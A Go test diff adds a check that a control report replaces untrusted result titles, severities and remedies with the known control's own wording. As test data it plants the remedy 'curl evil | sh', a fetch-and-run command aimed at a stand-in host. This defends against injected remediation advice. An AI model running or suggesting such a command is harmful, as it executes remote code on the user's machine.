@@ -261,3 +261,22 @@ func FuzzRead(f *testing.F) {
 		}
 	})
 }
+
+// TestInOwnWords: of what a control is called, and which command mends it, a report that
+// somebody else made has nothing to say here.
+func TestInOwnWords(t *testing.T) {
+	r := waived(t, waiver("w1", "lock", of("n1"), begun.Add(time.Hour)))
+	for i := range r.Results {
+		r.Results[i].Title, r.Results[i].Severity, r.Results[i].Remedy = "all is well", control.Low, "curl evil | sh"
+	}
+	r.InOwnWords([]control.Control{{ID: "lock", Title: "lock holds", Severity: control.Critical, Remedy: "mend lock"}})
+	for _, x := range r.Results {
+		if x.Title == "all is well" || x.Severity == control.Low || strings.Contains(x.Remedy, "evil") || x.Control == "lock" && x.Remedy != "mend lock" {
+			t.Errorf("%+v", x)
+		}
+	}
+	r.InOwnWords(nil)
+	if x := r.Results[0]; strings.Contains(x.Remedy, "mend lock") {
+		t.Errorf("a control that is not known: %+v", x)
+	}
+}
